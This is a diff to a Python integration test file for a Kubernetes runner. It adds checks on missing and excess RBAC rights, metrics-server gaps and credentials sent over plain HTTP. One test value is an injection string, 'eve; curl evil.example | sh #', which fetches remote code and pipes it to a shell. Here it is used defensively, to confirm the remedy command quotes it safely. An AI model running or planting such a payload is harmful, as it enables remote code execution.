@@ -3,6 +3,7 @@
 import asyncio
 import json
 import os
+import shlex
 import signal
 import socket
 import sqlite3
@@ -32,10 +33,12 @@ from protocol.approval import Role
 from protocol.checkup import CheckRow, Health, ok
 from protocol.commands import CommandStatus, SelfCheck
 from protocol.remediation import PROPOSABLE
-from runner.checkup import look_at_files, look_at_rights
+from runner.checkup import look_at_files, look_at_metrics, look_at_rights
 from runner.config import RunnerConfig
 from runner.kube.access import load_access
 from runner.kube.client import KubeClient
+from runner.metrics.client import MetricsStatus
+from runner.metrics.dialect import MEMORY, missing
 from tests.integration.fake_runner import FakeRunner, Job
 from tests.integration.http_server import Here, Person, http_server
 from tests.integration.metrics_servers import Keys, make_keys
@@ -548,6 +551,13 @@ async def test_a_runner_says_which_rights_it_misses_and_which_are_too_many(tmp_p
         assert missing.health is Health.FAIL
         assert "--verb=patch --resource=deployments.apps" in missing.mend
         assert "set_resources" in missing.found
+        hostile = "eve; curl evil.example | sh #"
+        rows = await _checks_as(tmp_path / "d", viewer, mode="writes", types=("set_resources",), user=hostile)
+        words = shlex.split(row(rows, "deployments.apps").mend, comments=False)
+        assert words[-1] == f"--user={hostile}", "who the API server says that we are is one word to a shell"
+        many = tuple(f"space-{n}" for n in range(12))
+        rows = await _checks_as(tmp_path / "e", viewer, mode="writes", types=("set_resources",), namespaces=many)
+        assert "2 more" in row(rows, "more namespaces").found
         rows = await _checks_as(tmp_path / "c", admin, mode="read-only", types=())
         assert row(rows, "more than needed: get secrets").health is Health.WARN
         assert row(rows, "more than needed: patch deployments").health is Health.WARN
@@ -565,9 +575,35 @@ def test_a_runners_own_files(keys: Keys, tmp_path: Path) -> None:
     assert row(look_at_files(config, now + timedelta(days=9)), "OPSTHREAD_RUNNER_PROMETHEUS_CA_FILE").health is Health.FAIL
 
 
-async def _checks_as(folder: Path, kubeconfig: Path, *, mode: str, types: tuple[str, ...]) -> list[CheckRow]:
+def test_a_metrics_server_what_it_lacks_and_how_it_is_reached(tmp_path: Path) -> None:
+    plain = {"data_dir": tmp_path, "prometheus_url": "http://mimir.example:9009"}
+    lacking = MetricsStatus("configured", "http://mimir.example:9009", answers=True, limits=missing({MEMORY: False}))
+    rows = look_at_metrics(RunnerConfig.model_validate(plain), lacking)
+    assert [one.name for one in rows] == ["server", "no series of cAdvisor"]
+    assert rows[1].found.startswith("memory and CPU of containers are not known")
+    assert rows[1].mend == "scrape /metrics/cadvisor of the kubelets"
+    for proof in ({"prometheus_token": "t"}, {"prometheus_user": "u", "prometheus_password": "p"}):
+        rows = look_at_metrics(RunnerConfig.model_validate({**plain, **proof}), lacking)
+        assert row(rows, "credentials").health is Health.WARN
+        safe = RunnerConfig.model_validate({**plain, **proof, "prometheus_url": "https://mimir.example"})
+        assert "credentials" not in [one.name for one in look_at_metrics(safe, lacking)]
+    other = MetricsStatus("found", "s", answers=True, limits=("container series carry exported_pod here, not pod",))
+    (_, labels) = look_at_metrics(RunnerConfig.model_validate(plain), other)
+    assert (labels.health, labels.mend) == (Health.OK, ""), "nothing is to be mended: it was understood"
+
+
+async def _checks_as(
+    folder: Path,
+    kubeconfig: Path,
+    *,
+    mode: str,
+    types: tuple[str, ...],
+    user: str = "system:serviceaccount:opsthread:opsthread-runner",
+    namespaces: tuple[str, ...] = (),
+) -> list[CheckRow]:
     """Rights alone, without a control plane."""
     key = SigningKey.generate().verify_key.encode().hex()
-    config = RunnerConfig.model_validate({"data_dir": folder, "mode": mode, "remediations": types, "grant_keys": {"k": key}})
+    values = {"data_dir": folder, "mode": mode, "remediations": types, "grant_keys": {"k": key}, "namespaces": namespaces}
+    config = RunnerConfig.model_validate(values)
     async with KubeClient(await load_access(kubeconfig, None, in_cluster=False)) as client:
-        return await look_at_rights(client, config, "system:serviceaccount:opsthread:opsthread-runner")
+        return await look_at_rights(client, config, user)
